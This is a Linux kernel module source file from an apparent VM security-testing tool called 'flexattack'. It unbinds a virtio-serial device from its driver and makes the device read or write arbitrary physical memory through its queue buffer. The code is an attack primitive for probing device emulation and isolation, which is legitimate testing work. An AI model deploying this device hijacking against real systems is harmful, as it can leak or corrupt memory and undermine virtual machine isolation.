// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * A virtio-serial, as the machine has one for its agent, told to use any memory as its buffer: the
 * last of those on the bus, and not the first, which is the agent's. Each time we are its driver for a moment.
 *
 * `virtio-read ADDRESS BYTES`: the device reads so many bytes there, and sends them down its line.
 * `virtio-write ADDRESS BYTES`: it writes there what comes up the line. "used" is what it says of how
 * many bytes it used (-1: nothing, in a while), "broken" whether it stopped working.
 */
#include <linux/delay.h>
#include <linux/pci.h>
#include <linux/scatterlist.h>
#include <linux/virtio.h>
#include <linux/virtio_config.h>
#include <linux/virtio_ids.h>

#include "flexattack.h"

enum { LINE_IN, LINE_OUT, LINES };
static const unsigned int patience_ms = 300;

static struct {
	phys_addr_t address;
	unsigned int bytes, line;
	long used;
	bool broken;
	int error;
} order;

static void use(struct virtio_device *device, struct virtqueue *queue)
{
	struct scatterlist buffer;
	unsigned int length, waited = 0;

	sg_init_table(&buffer, 1);
	sg_set_page(&buffer, phys_to_page(order.address), order.bytes, offset_in_page(order.address));
	order.error = order.line == LINE_OUT ? virtqueue_add_outbuf(queue, &buffer, 1, &order, GFP_KERNEL) :
					       virtqueue_add_inbuf(queue, &buffer, 1, &order, GFP_KERNEL);
	if (order.error)
		return;
	virtqueue_kick(queue);
	order.used = -1;
	while (waited++ < patience_ms && order.used < 0) {
		if (virtqueue_get_buf(queue, &length))
			order.used = length;
		usleep_range(900, 1100);
	}
	order.broken = device->config->get_status(device) & VIRTIO_CONFIG_S_NEEDS_RESET;
}

static int probe(struct virtio_device *device)
{
	static const char *const names[LINES] = { "in", "out" };
	vq_callback_t *callbacks[LINES] = { NULL };
	struct virtqueue *queues[LINES];

	order.error = virtio_find_vqs(device, LINES, queues, callbacks, names, NULL);
	if (order.error)
		return order.error;
	virtio_device_ready(device);
	use(device, queues[order.line]);
	return 0;
}

static void leave(struct virtio_device *device)
{
	virtio_reset_device(device);
	device->config->del_vqs(device);
}

/* Without features: one line, no control messages. */
static const struct virtio_device_id ids[] = { { VIRTIO_ID_CONSOLE, VIRTIO_DEV_ANY_ID }, { 0 } };
static struct virtio_driver driver = {
	.driver.name = "flexattack",
	.driver.owner = THIS_MODULE,
	.id_table = ids,
	.probe = probe,
	.remove = leave,
};

static int of_virtio(struct device *device, void *unused)
{
	return device->bus && !strcmp(device->bus->name, "virtio");
}

/* Takes the device from its own driver. It stays free when we are done. */
static int free_the_last(void)
{
	struct pci_dev *next = NULL, *last = NULL;
	struct device *device;
	int count = 0;

	while ((next = pci_get_device(VIRTIO_SERIAL, next))) {
		pci_dev_put(last);
		last = pci_dev_get(next);
		count++;
	}
	device = count > 1 ? device_find_child(&last->dev, NULL, of_virtio) : NULL;
	pci_dev_put(last);
	if (!device)
		return -ENODEV;
	device_release_driver(device);
	put_device(device);
	return 0;
}

static void give(struct attack *attack, unsigned int line)
{
	memset(&order, 0, sizeof(order));
	order.address = word(attack, 1);
	order.bytes = clamp_t(u64, word(attack, 2), 1, PAGE_SIZE);
	order.line = line;
	order.error = -ENODEV; /* until we are asked to drive it */
	attack->error = free_the_last() ?: register_virtio_driver(&driver);
	if (attack->error)
		return;
	unregister_virtio_driver(&driver);
	attack->error = order.error;
	tell(attack, "used", order.used);
	tell(attack, "broken", order.broken);
}

void virtio_read(struct attack *attack)
{
	give(attack, LINE_OUT);
}

void virtio_write(struct attack *attack)
{
	give(attack, LINE_IN);
}
